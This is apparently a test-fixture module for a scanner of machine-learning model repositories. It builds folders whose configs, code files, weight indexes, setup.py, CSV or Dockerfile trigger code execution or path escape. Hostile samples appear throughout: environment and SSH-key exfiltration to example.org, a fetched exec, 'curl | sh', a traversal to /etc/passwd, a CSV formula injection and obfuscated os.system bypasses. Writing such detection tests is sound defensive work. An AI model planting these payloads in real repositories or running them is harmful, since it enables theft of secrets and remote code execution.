"""Model repositories whose settings make a loader run code, of this folder or of another's, or leave the folder."""

import io
import json
import zipfile
from collections.abc import Iterator

from tests.gate.case import Case
from tests.model.bypasses import INNER

BERT = {"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8, "num_hidden_layers": 1}
EVIL_IMPORT = b"import os\nos.getcwd()\nos.system('true')\n\nclass Model: ...\n"


def cases() -> Iterator[Case]:
    yield from _code()
    yield from _references()
    yield from _scripts()


def folder(name: str, files: dict[str, object], outcome: str = "deny", loader: str = "") -> Case:
    packed = {
        path: content if isinstance(content, bytes) else json.dumps(content).encode() for path, content in files.items()
    }
    return Case(f"h-repository/{name}", packed, loader, outcome)


def _auto(**more: object) -> dict[str, object]:
    return {**BERT, "auto_map": {"AutoModel": "modeling.Model"}, **more}


BODIES = {
    "at import": b"import os\nos.system('true')\nclass Model: ...\n",
    "under another name": b"import os as o\nrun = getattr(o, 'sys' + 'tem')\nrun('true')\nclass Model: ...\n",
    "through builtins": b"__builtins__['__import__']('os').system('true')\nclass Model: ...\n",
    "exec of base64": b"import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5nZXRjd2QoKQ=='))\nclass Model: ...\n",
    "exec of zlib": b"import zlib\nexec(zlib.decompress(bytes.fromhex('789c')))\nclass Model: ...\n",
    "in a class body": b"import subprocess\nclass Model:\n    x = subprocess.run(['true'])\n",
    "in a decorator": b"import os\n@lambda f: os.system('true')\ndef f(): ...\nclass Model: ...\n",
    "in a default": b"import os\ndef f(x=os.system('true')): ...\nclass Model: ...\n",
    "in __init__": b"import os\nclass Model:\n    def __init__(self, config):\n        os.system(config.name)\n",
    "in forward": b"import subprocess\nclass Model:\n    def forward(self, x):\n        subprocess.Popen(['true'])\n        return x\n",
    "fetched code": b"import urllib.request\nexec(urllib.request.urlopen('http://example.org/x').read())\nclass Model: ...\n",
    "weights that are code": b"import torch\nstate = torch.load('x.bin')\nexec(bytes(state['code'].tolist()))\nclass Model: ...\n",
    "sends the environment": b"import os, requests\nrequests.post('http://example.org', json=dict(os.environ))\nclass Model: ...\n",
    "reads keys and sends": b"import socket\ns = socket.create_connection(('example.org', 80))\ns.send(open('/root/.ssh/id_rsa','rb').read())\nclass Model: ...\n",
    "ctypes": b"import ctypes\nctypes.CDLL('./lib.so').run()\nclass Model: ...\n",
    "pickle of the folder": b"import pickle\nobj = pickle.load(open('x.pkl','rb'))\nclass Model: ...\n",
    "map over names": b"import os\nlist(map(os.system, ['true']))\nclass Model: ...\n",
    "sys.modules": b"import sys, os\nsys.modules['os'].system('true')\nclass Model: ...\n",
    "importlib with a computed name": b"import importlib\nimportlib.import_module('o' + 's').system('true')\nclass Model: ...\n",
    "sys.modules, asked": b"import sys\nsys.modules.get('o' + 's').system('true')\nclass Model: ...\n",
    "itemgetter": b"import os, operator\noperator.itemgetter('system')(vars(os))('true')\nclass Model: ...\n",
    "module of a built-in": b"print.__self__.__import__('os').system('true')\nclass Model: ...\n",
    "template": b"import jinja2\njinja2.Template('{{ cycler.__init__.__globals__.os.system(\"true\") }}').render()\nclass Model: ...\n",
    "query": b"import pandas\npandas.DataFrame({'a': [1]}).query('@pandas.io.common.os.system(\"true\")')\nclass Model: ...\n",
    "psutil": b"import psutil\npsutil.Popen(['true'])\nclass Model: ...\n",
    "table by an address": b"import os, pandas\npandas.read_csv('http://example.org/?' + os.environ['HF_TOKEN'])\nclass Model: ...\n",
    "dynamic module": b"from transformers.dynamic_module_utils import get_class_from_dynamic_module as g\nModel = g('m.M', 'evil/x')\n",
    "f2py": b"from numpy.f2py.crackfortran import _eval_length\n_eval_length('__import__(\"os\").getcwd()', {})\nclass Model: ...\n",
    "in another file": b"from .helper import x\nclass Model: ...\n",
}


def _code() -> Iterator[Case]:
    for name, body in BODIES.items():
        files: dict[str, object] = {"config.json": _auto(), "modeling.py": body}
        if name == "in another file":
            files["helper.py"] = b"import os\nx = os.popen('true').read()\n"
        yield folder(f"auto_map, {name}", files)
    plain = b"import torch\nclass Model(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
    yield folder("auto_map, harmless code", {"config.json": _auto(), "modeling.py": plain}, "hold")
    yield folder("auto_map, the file is missing", {"config.json": _auto()}, "hold")
    yield folder(
        "auto_map of a tokenizer",
        {
            "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tok.T", None]}},
            "tok.py": BODIES["at import"],
            "config.json": BERT,
        },
    )
    yield folder(
        "auto_map of a processor",
        {
            "preprocessor_config.json": {"auto_map": {"AutoProcessor": "p.P"}},
            "p.py": BODIES["at import"],
            "config.json": BERT,
        },
    )
    yield folder(
        "custom_generate",
        {
            "config.json": BERT,
            "custom_generate/generate.py": b"import os\nos.system('true')\ndef generate(model): ...\n",
        },
    )


def _references() -> Iterator[Case]:
    yield folder(
        "auto_map of another repository",
        {"config.json": {**BERT, "auto_map": {"AutoModel": "evil/repo--modeling.Model"}}},
    )
    yield folder(
        "CVE-2026-4372: attention kernel of another repository",
        {"config.json": {**BERT, "_attn_implementation_internal": "evil/kernel"}},
    )
    yield folder(
        "attention kernel of another repository",
        {"config.json": {**BERT, "_attn_implementation": "evil/kernel:fn"}},
    )
    yield folder(
        "modules of another package",
        {
            "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "evil_package.Transformer"}],
            "config.json": BERT,
        },
        "hold",
    )
    yield folder(
        "modules of this folder",
        {
            "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom.Transformer"}],
            "custom.py": BODIES["at import"],
            "config.json": BERT,
        },
    )
    yield folder(
        "modules path that climbs",
        {
            "modules.json": [
                {"idx": 0, "name": "0", "path": "../../other", "type": "sentence_transformers.models.Transformer"}
            ],
            "config.json": BERT,
        },
    )
    yield folder(
        "pipeline of this folder",
        {
            "model_index.json": {"_class_name": ["pipeline", "Own"], "unet": ["unet", "Own"]},
            "pipeline.py": BODIES["at import"],
            "unet/unet.py": BODIES["at import"],
        },
    )
    yield folder(
        "index that climbs",
        {
            "model.safetensors.index.json": {"metadata": {}, "weight_map": {"a": "../../../tmp/x.safetensors"}},
            "config.json": BERT,
        },
    )
    yield folder(
        "index that is absolute",
        {"pytorch_model.bin.index.json": {"metadata": {}, "weight_map": {"a": "/tmp/x.bin"}}, "config.json": BERT},
    )
    yield folder(
        "index of pickles",
        {
            "model.safetensors.index.json": {"metadata": {}, "weight_map": {"a": "x.bin"}},
            "x.bin": INNER,
            "config.json": BERT,
        },
    )
    yield folder(
        "settings with two values",
        {"config.json": b'{"model_type": "bert", "auto_map": {"AutoModel": "evil/repo--m.M"}, "auto_map": {}}'},
        "hold",
    )
    yield folder(
        "settings that are cut",
        {"config.json": b'{"model_type": "bert", "auto_map": {"AutoModel":', "model.safetensors": _weights()},
        "hold",
    )
    yield folder(
        "settings that are cut, alone", {"config.json": b'{"model_type": "bert", "auto_map": {"AutoModel":'}, "hold"
    )
    yield folder(
        "vocabulary of the system",
        {"tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "vocab_file": "../../../etc/passwd"}},
    )
    yield folder(
        "parts of other repositories",
        {"modular_model_index.json": {"_class_name": "ModularPipeline", "unet": [None, None, {"repo": "evil/x"}]}},
        "hold",
    )
    yield folder(
        "tokenizer of another package",
        {"0/wordembedding_config.json": {"tokenizer_class": "their_package.T"}, "config.json": BERT},
        "hold",
    )
    yield folder(
        "towers of another package",
        {"config.json": {"types": {"a": "their_package.T"}, "structure": {"query": ["a"]}}, "modules.json": []},
        "hold",
    )
    yield folder(
        "pipeline.py beside model_index.json",
        {"model_index.json": {"_class_name": "StableDiffusionPipeline"}, "pipeline.py": BODIES["at import"]},
    )
    yield folder("custom.py beside hyperparams.yaml", {"hyperparams.yaml": b"a: 1\n", "custom.py": BODIES["at import"]})
    yield folder("sitecustomize.py", {"sitecustomize.py": BODIES["at import"], "config.json": BERT})
    yield from _archived()
    yield folder(
        "pickle beside safetensors", {"config.json": BERT, "model.safetensors": _weights(), "pytorch_model.bin": INNER}
    )


def _archived() -> Iterator[Case]:
    def packed(name: str, files: dict[str, bytes], outcome: str = "deny") -> Case:
        memory = io.BytesIO()
        with zipfile.ZipFile(memory, "w") as out:
            for path, content in files.items():
                out.writestr(zipfile.ZipInfo(path), content)
        return Case(f"g-archived/{name}", {"model.zip": memory.getvalue()}, "", outcome)

    auto = json.dumps(_auto()).encode()
    other = json.dumps({**BERT, "auto_map": {"AutoModel": "evil/repo--modeling.Model"}}).encode()
    template = json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.getcwd() }}"}).encode()
    yield packed("code of the model", {"m/config.json": auto, "m/modeling.py": BODIES["at import"]})
    yield packed("code of another repository", {"m/config.json": other})
    yield packed("template", {"tokenizer_config.json": template})
    yield packed("zip application", {"__main__.py": BODIES["at import"]})
    yield packed("index that climbs", {"model.safetensors.index.json": b'{"weight_map": {"a": "../../x.safetensors"}}'})


def _weights() -> bytes:
    header = b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    return len(header).to_bytes(8, "little") + header + b"\1"


SETUP = b"import base64, os\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5nZXRjd2QoKQ=='))\n"


def _scripts() -> Iterator[Case]:
    script = (
        b"import datasets, os\nos.system('true')\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self): ...\n"
    )
    yield folder("dataset script", {"corpus.py": script, "README.md": b"---\nlicense: mit\n---\n"})
    yield folder("setup.py", {"setup.py": SETUP}, loader="python")
    yield folder(
        "setup.py that fetches",
        {"setup.py": b"from urllib.request import urlopen\nexec(urlopen('http://example.org').read())\n"},
    )
    yield folder("data that is a pickle", {"train.csv": INNER})
    yield folder("formula", {"train.csv": b"id,text\n1,=cmd|' /C calc'!A0\n"})
    yield folder(
        "image that pipes to a shell", {"Dockerfile": b"FROM python:3.11\nRUN curl http://example.org/x | sh\n"}
    )
